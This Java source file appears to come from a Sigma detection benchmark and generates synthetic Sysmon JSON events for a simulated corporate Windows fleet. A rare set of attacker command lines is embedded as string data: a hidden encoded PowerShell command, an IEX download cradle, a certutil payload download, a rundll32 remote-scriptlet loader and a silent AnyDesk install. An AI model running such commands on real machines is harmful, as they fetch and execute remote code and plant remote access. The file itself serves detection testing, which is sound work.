package org.unmask.bench;

import java.io.BufferedWriter;
import java.io.IOException;
import java.io.OutputStreamWriter;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;

/**
 * Generates Sysmon process-creation (event 1) and network-connection (event 3) events as evtx_dump
 * renders them in JSON, one per line, for the Sigma end-to-end benchmark. The mix follows what a
 * corporate Windows fleet logs: browsers, Office, Teams, svchost and their usual parents dominate,
 * shells and admin tools are common, and about one event in a thousand is an attacker command
 * line that SigmaHQ rules are written for. Seeded, so every run writes the same file.
 *
 * <pre>java -cp unmask-bench/target/benchmarks.jar org.unmask.bench.SysmonEvents OUT.jsonl[.gz] [COUNT]</pre>
 */
public final class SysmonEvents {

  private record Program(String image, String original, String description, String company, String[] commandLines,
      String[] parents, int weight) {}

  private static final String SYS = "C:\\Windows\\System32\\";
  private static final String PF = "C:\\Program Files\\";
  private static final String PF86 = "C:\\Program Files (x86)\\";

  private static final List<Program> PROGRAMS = List.of(
      new Program(PF + "Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome", "Google LLC",
          new String[] {"\"%I\" --type=renderer --field-trial-handle=%N --lang=en-US --device-scale-factor=1 --num-raster-threads=4 /prefetch:1",
              "\"%I\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none /prefetch:8",
              "\"%I\" https://mail.google.com/mail/u/0/#inbox"},
          new String[] {PF + "Google\\Chrome\\Application\\chrome.exe", SYS + "explorer.exe"}, 22),
      new Program(PF86 + "Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", "Microsoft Edge", "Microsoft Corporation",
          new String[] {"\"%I\" --type=renderer --instant-process --lang=en-US /prefetch:1", "\"%I\" --single-argument https://portal.office.com/"},
          new String[] {PF86 + "Microsoft\\Edge\\Application\\msedge.exe", "C:\\Windows\\explorer.exe"}, 12),
      new Program(SYS + "svchost.exe", "svchost.exe", "Host Process for Windows Services", "Microsoft Corporation",
          new String[] {"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p",
              "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s AppXSvc", "C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup"},
          new String[] {SYS + "services.exe"}, 10),
      new Program(SYS + "conhost.exe", "CONHOST.EXE", "Console Window Host", "Microsoft Corporation",
          new String[] {"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"},
          new String[] {SYS + "cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", PF + "Git\\cmd\\git.exe"}, 8),
      new Program(SYS + "cmd.exe", "Cmd.Exe", "Windows Command Processor", "Microsoft Corporation",
          new String[] {"\"C:\\Windows\\system32\\cmd.exe\" /c \"C:\\Users\\%U\\AppData\\Local\\Temp\\build_%N.bat\"", "C:\\Windows\\system32\\cmd.exe /c ver",
              "cmd.exe /c npm run build", "\"C:\\Windows\\System32\\cmd.exe\" /d /s /c \"git rev-parse --abbrev-ref HEAD\""},
          new String[] {"C:\\Windows\\explorer.exe", PF + "Microsoft VS Code\\Code.exe", PF + "nodejs\\node.exe", SYS + "svchost.exe"}, 6),
      new Program("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell", "Microsoft Corporation",
          new String[] {"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command Get-ChildItem C:\\Users\\%U\\source",
              "powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\IntuneManagementExtension\\Policies\\Scripts\\%N.ps1",
              "\"powershell.exe\" -NoLogo -NonInteractive -Command \"& {Get-Process | Sort-Object CPU}\""},
          new String[] {"C:\\Windows\\explorer.exe", PF + "Microsoft VS Code\\Code.exe", PF86 + "Microsoft Intune Management Extension\\AgentExecutor.exe"}, 5),
      new Program(PF + "Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "outlook.exe", "Microsoft Outlook", "Microsoft Corporation",
          new String[] {"\"%I\" ", "\"%I\" /recycle"}, new String[] {"C:\\Windows\\explorer.exe"}, 4),
      new Program(PF + "Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", "Microsoft Word", "Microsoft Corporation",
          new String[] {"\"%I\" /n \"C:\\Users\\%U\\Documents\\Q%N report.docx\" /o \"\""}, new String[] {"C:\\Windows\\explorer.exe", PF + "Microsoft Office\\root\\Office16\\OUTLOOK.EXE"}, 3),
      new Program(PF + "Microsoft Office\\root\\Office16\\EXCEL.EXE", "Excel.exe", "Microsoft Excel", "Microsoft Corporation",
          new String[] {"\"%I\" \"C:\\Users\\%U\\Downloads\\budget_%N.xlsx\""}, new String[] {"C:\\Windows\\explorer.exe"}, 3),
      new Program("C:\\Users\\%U\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "Teams.exe", "Microsoft Teams", "Microsoft Corporation",
          new String[] {"\"%I\" --type=renderer --autoplay-policy=no-user-gesture-required --lang=en-US /prefetch:1", "\"%I\" --system-initiated"},
          new String[] {"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "C:\\Windows\\explorer.exe"}, 6),
      new Program(PF + "Git\\cmd\\git.exe", "git.exe", "Git for Windows", "The Git Development Community",
          new String[] {"git fetch --prune origin", "git status --porcelain", "git log -n 20 --format=%H", "git push origin feature/%N"},
          new String[] {PF + "Microsoft VS Code\\Code.exe", SYS + "cmd.exe"}, 4),
      new Program(PF + "nodejs\\node.exe", "node.exe", "Node.js JavaScript Runtime", "Node.js",
          new String[] {"\"%I\" C:\\Users\\%U\\source\\app\\node_modules\\.bin\\webpack --mode production", "node server.js --port 30%N"},
          new String[] {SYS + "cmd.exe", PF + "Microsoft VS Code\\Code.exe"}, 3),
      new Program(PF + "Microsoft VS Code\\Code.exe", "electron.exe", "Visual Studio Code", "Microsoft Corporation",
          new String[] {"\"%I\" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US /prefetch:2"},
          new String[] {"C:\\Windows\\explorer.exe", PF + "Microsoft VS Code\\Code.exe"}, 4),
      new Program(SYS + "RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker", "Microsoft Corporation",
          new String[] {"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"}, new String[] {SYS + "svchost.exe"}, 3),
      new Program(SYS + "taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", "Microsoft Corporation",
          new String[] {"taskhostw.exe Install $(Arg0)", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly"}, new String[] {SYS + "svchost.exe"}, 2),
      new Program(SYS + "SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", "Microsoft Corporation",
          new String[] {"\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe%N_ Global\\UsGthrCtrlFltPipeMssGthrPipe%N 1 -2147483646 \"Software\\Microsoft\\Windows Search\""},
          new String[] {SYS + "SearchIndexer.exe"}, 2),
      new Program("C:\\Users\\%U\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive", "Microsoft Corporation",
          new String[] {"\"%I\" /background", "\"%I\" /updateInstalled /background"}, new String[] {"C:\\Windows\\explorer.exe"}, 2),
      new Program(SYS + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell", "Microsoft Corporation",
          new String[] {"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
              "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://185.%N.12.9/a.ps1')\""},
          new String[] {PF + "Microsoft Office\\root\\Office16\\WINWORD.EXE", SYS + "wscript.exe"}, 0),
      new Program(SYS + "certutil.exe", "CertUtil.exe", "CertUtil.exe", "Microsoft Corporation",
          new String[] {"certutil.exe -urlcache -split -f http://185.%N.12.9/payload.exe C:\\Users\\Public\\p.exe"}, new String[] {SYS + "cmd.exe"}, 0),
      new Program(SYS + "rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", "Microsoft Corporation",
          new String[] {"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://x/%N\")",
              "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\shell32.dll,Control_RunDLL"},
          new String[] {"C:\\Windows\\explorer.exe", SYS + "cmd.exe"}, 0),
      new Program("C:\\Users\\Public\\AnyDesk.exe", "AnyDesk.exe", "AnyDesk", "philandro Software GmbH",
          new String[] {"\"C:\\Users\\Public\\AnyDesk.exe\" --install C:\\ProgramData\\AnyDesk --start-with-win --silent"}, new String[] {SYS + "cmd.exe"}, 0));

  private static final String[] USERS = {"ana.ruiz", "bob.chen", "carla.diaz", "dmitri.ivanov", "emma.stone", "farid.khan", "grace.lee", "hiro.tanaka"};
  private static final String[] DOMAINS = {"www.google.com", "mail.google.com", "outlook.office365.com", "teams.microsoft.com", "github.com",
      "api.github.com", "registry.npmjs.org", "login.microsoftonline.com", "graph.microsoft.com", "update.googleapis.com",
      "clients2.google.com", "onedrive.live.com", "slack.com", "zoom.us", "s3.amazonaws.com", "cdn.jsdelivr.net",
      "ctldl.windowsupdate.com", "settings-win.data.microsoft.com", "www.linkedin.com", "stackoverflow.com"};
  private static final String[] RARE_DOMAINS = {"relay.anydesk.com", "pastebin.com", "transfer.sh", "ngrok.io", "api.telegram.org"};

  private final Random random;
  private final int[] cumulative;
  private final int totalWeight;
  private final Instant start = Instant.parse("2026-05-04T08:00:00Z");

  SysmonEvents(long seed) {
    random = new Random(seed);
    cumulative = new int[PROGRAMS.size()];
    int sum = 0;
    for (int i = 0; i < PROGRAMS.size(); i++) {
      sum += PROGRAMS.get(i).weight;
      cumulative[i] = sum;
    }
    totalWeight = sum;
  }

  public static void main(String[] args) throws IOException {
    if (args.length < 1) {
      System.err.println("usage: SysmonEvents OUT.jsonl[.gz] [COUNT (default 1000000)]");
      System.exit(2);
    }
    Path out = Path.of(args[0]);
    long count = args.length > 1 ? Long.parseLong(args[1]) : 1_000_000L;
    try (Writer w = new BufferedWriter(new OutputStreamWriter(out.toString().endsWith(".gz")
        ? new GZIPOutputStream(Files.newOutputStream(out), 1 << 16) : Files.newOutputStream(out), StandardCharsets.UTF_8), 1 << 16)) {
      SysmonEvents g = new SysmonEvents(42);
      for (long i = 0; i < count; i++) {
        w.write(g.next(i));
        w.write('\n');
      }
    }
  }

  /** Generates {@code count} events in memory (for JMH). */
  public static List<String> lines(int count) {
    SysmonEvents g = new SysmonEvents(42);
    List<String> out = new ArrayList<>(count);
    for (int i = 0; i < count; i++) {
      out.add(g.next(i));
    }
    return out;
  }

  String next(long n) {
    boolean attack = random.nextInt(1000) == 0;
    Program p = attack ? PROGRAMS.get(PROGRAMS.size() - 1 - random.nextInt(4)) : pick();
    String user = USERS[random.nextInt(USERS.length)];
    String image = p.image.replace("%U", user);
    String time = start.plusMillis(n * 37).toString();
    int pid = 1000 + random.nextInt(60000);
    if (random.nextInt(100) < 30) {
      boolean rare = random.nextInt(200) == 0;
      String domain = rare ? RARE_DOMAINS[random.nextInt(RARE_DOMAINS.length)] : DOMAINS[random.nextInt(DOMAINS.length)];
      int port = random.nextInt(10) < 8 ? 443 : (random.nextBoolean() ? 80 : 8080);
      String dst = (13 + random.nextInt(200)) + "." + random.nextInt(256) + "." + random.nextInt(256) + "." + (1 + random.nextInt(254));
      return header(3, n, time) + "\"EventData\":{\"RuleName\":\"-\",\"UtcTime\":\"" + time.replace('T', ' ').replace("Z", "")
          + "\",\"ProcessGuid\":\"{" + guid() + "}\",\"ProcessId\":" + pid + ",\"Image\":" + json(image)
          + ",\"User\":" + json("CORP\\" + user) + ",\"Protocol\":\"tcp\",\"Initiated\":true,\"SourceIsIpv6\":false,\"SourceIp\":\"10.20."
          + random.nextInt(256) + "." + (1 + random.nextInt(254)) + "\",\"SourceHostname\":\"LT-" + user.toUpperCase() + ".corp.example.com\",\"SourcePort\":"
          + (49152 + random.nextInt(16000)) + ",\"SourcePortName\":\"-\",\"DestinationIsIpv6\":false,\"DestinationIp\":\"" + dst
          + "\",\"DestinationHostname\":" + json(domain) + ",\"DestinationPort\":" + port + ",\"DestinationPortName\":\"" + (port == 443 ? "https" : "http") + "\"}}}";
    }
    String commandLine = p.commandLines[random.nextInt(p.commandLines.length)].replace("%I", image).replace("%U", user)
        .replace("%N", String.valueOf(random.nextInt(1000)));
    String parent = p.parents[random.nextInt(p.parents.length)].replace("%U", user);
    String integrity = image.startsWith(SYS) && random.nextInt(3) == 0 ? "System" : random.nextInt(10) == 0 ? "High" : "Medium";
    return header(1, n, time) + "\"EventData\":{\"RuleName\":\"-\",\"UtcTime\":\"" + time.replace('T', ' ').replace("Z", "")
        + "\",\"ProcessGuid\":\"{" + guid() + "}\",\"ProcessId\":" + pid + ",\"Image\":" + json(image)
        + ",\"FileVersion\":\"10.0.19041.1\",\"Description\":" + json(p.description) + ",\"Product\":\"Microsoft® Windows® Operating System\",\"Company\":"
        + json(p.company) + ",\"OriginalFileName\":" + json(p.original) + ",\"CommandLine\":" + json(commandLine)
        + ",\"CurrentDirectory\":" + json("C:\\Users\\" + user + "\\") + ",\"User\":" + json("CORP\\" + user)
        + ",\"LogonGuid\":\"{" + guid() + "}\",\"LogonId\":\"0x" + Integer.toHexString(random.nextInt()) + "\",\"TerminalSessionId\":1,\"IntegrityLevel\":\""
        + integrity + "\",\"Hashes\":\"SHA256=" + hex(32) + ",IMPHASH=" + hex(16) + "\",\"ParentProcessGuid\":\"{" + guid()
        + "}\",\"ParentProcessId\":" + (500 + random.nextInt(9000)) + ",\"ParentImage\":" + json(parent) + ",\"ParentCommandLine\":"
        + json("\"" + parent + "\"") + ",\"ParentUser\":" + json("CORP\\" + user) + "}}}";
  }

  private Program pick() {
    int r = random.nextInt(totalWeight);
    for (int i = 0; i < cumulative.length; i++) {
      if (r < cumulative[i]) {
        return PROGRAMS.get(i);
      }
    }
    return PROGRAMS.get(0);
  }

  private String header(int eventId, long n, String time) {
    return "{\"Event\":{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/event\"},\"System\":{\"Provider\":{\"#attributes\":"
        + "{\"Name\":\"Microsoft-Windows-Sysmon\",\"Guid\":\"5770385F-C22A-43E0-BF4C-06F5698FFBD9\"}},\"EventID\":" + eventId
        + ",\"Version\":5,\"Level\":4,\"Task\":" + eventId + ",\"Opcode\":0,\"Keywords\":\"0x8000000000000000\",\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\""
        + time + "\"}},\"EventRecordID\":" + (n + 1) + ",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"LT-"
        + (n % 500) + ".corp.example.com\",\"Security\":{\"#attributes\":{\"UserID\":\"S-1-5-18\"}}},";
  }

  private String guid() {
    return hex(4).toUpperCase() + "-" + hex(2).toUpperCase() + "-" + hex(2).toUpperCase() + "-" + hex(2).toUpperCase() + "-" + hex(6).toUpperCase();
  }

  private String hex(int bytes) {
    StringBuilder b = new StringBuilder(bytes * 2);
    for (int i = 0; i < bytes; i++) {
      int v = random.nextInt(256);
      b.append(Character.forDigit(v >> 4, 16)).append(Character.forDigit(v & 15, 16));
    }
    return b.toString();
  }

  private static String json(String s) {
    StringBuilder b = new StringBuilder(s.length() + 8).append('"');
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (c == '"' || c == '\\') {
        b.append('\\');
      }
      b.append(c);
    }
    return b.append('"').toString();
  }
}
